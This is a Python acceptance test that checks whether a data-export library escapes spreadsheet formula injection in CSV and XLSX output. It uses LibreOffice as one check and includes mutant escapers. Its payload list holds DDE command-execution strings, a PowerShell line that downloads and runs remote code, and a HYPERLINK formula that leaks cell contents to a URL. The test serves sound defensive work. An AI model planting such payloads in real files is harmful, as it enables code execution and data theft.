"""F03: formulas survive a round trip as text, in CSV and XLSX, and no spreadsheet evaluates them."""

import csv
import io
import shutil
import subprocess
import tempfile
from pathlib import Path

from kit import rows
from kit.rows import write
from tests.accept.frame import patched

FORMS = {"csv": write.csv, "xlsx": write.xlsx}
PAYLOADS = [
    "=1+1", "=1+1+cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"open")', '=IMPORTXML("http://example.org","//a")',
    '=WEBSERVICE("http://example.org")', '=DDE("cmd";"/C calc";"!A0")', "=SUM(1,1)", "==1+1",
    "+1+1", "+1-800-555-0100", "++1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "-",
    "--1", "@SUM(1+1)", "@", "\t=1+1", "\t\t=1+1", "\ttext", "\r=1+1", "\n=1+1", "\r\n=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", " =1+1", "\u3000=1+1", "\u00a0=1+1", "'=1+1", "''=1+1",
    "text\n=1+1", "a;=1+1", 'a","=1+1', "a\t=1+1", '"=1+1"', "=1+1;=2+2",
]  # fmt: skip
HARMLESS = ["'", "'quoted'", "中国-北京", "a=b", "_x000D_", "x@y.org", "", "O'Neill"]


def run():
    """(ok, figures): texts that came back changed, and formulas that LibreOffice evaluated."""
    changed, evaluated = [], []
    with tempfile.TemporaryDirectory() as folder:
        for form, written in FORMS.items():
            path = Path(folder) / f"payloads.{form}"
            with path.open("wb") as file:
                written(file, ["number", "text"], list(enumerate(PAYLOADS + HARMLESS)))
            changed += [f"{form} {text!r}" for text in differences(path)]
            evaluated += [f"{form} {text!r}" for text in formulas(path, folder)]
    office = "yes" if shutil.which("soffice") else "not run: no LibreOffice on PATH"
    figures = {"payloads": len(PAYLOADS), "formats": len(FORMS), "changed": changed[:9],
               "evaluated": evaluated[:9], "LibreOffice": office}  # fmt: skip
    return not changed and not evaluated, figures


def differences(path):
    """The texts that are not what was written."""
    read = [row.values["text"] for row in rows.read(path)]
    return [one for one, other in zip(PAYLOADS + HARMLESS, read, strict=True) if one != other]


def formulas(path, folder):
    """What a spreadsheet would evaluate: by the rules of the format, and by LibreOffice itself."""
    if path.suffix == ".xlsx":
        found = typed_as_formula(path)
    else:
        with path.open(encoding="utf-8-sig", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row[1:]]
        found = [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@＝＋－＠")]
    return found + by_office(path, folder)


def typed_as_formula(path):
    from openpyxl import load_workbook

    sheet = load_workbook(path).active
    return [c.value for row in sheet.iter_rows(min_row=2) for c in row if c.data_type == "f"]


def by_office(path, folder):
    """Payloads whose cell LibreOffice shows as something else; none where it is not installed."""
    if not shutil.which("soffice"):
        return []
    out = Path(folder) / f"{path.suffix[1:]}-shown"
    subprocess.run(
        ["soffice", "--headless", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", out, path],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    with next(out.glob("*.csv")).open(encoding="utf-8", newline="") as file:
        shown = [row[1] for row in csv.reader(io.StringIO(file.read()))][1:]
    pairs = zip(PAYLOADS, shown, strict=False)
    return [one for one, cell in pairs if cell.lstrip("'").split() != one.lstrip("'").split()]


MUTANTS = [
    patched(
        "nothing is escaped", "kit.rows.write.escaped", lambda value: "" if value is None else value
    ),
    patched(
        "only the equals sign is escaped",
        "kit.rows.write.escaped",
        lambda value: f"'{value}" if str(value).startswith("=") else value,
    ),
]
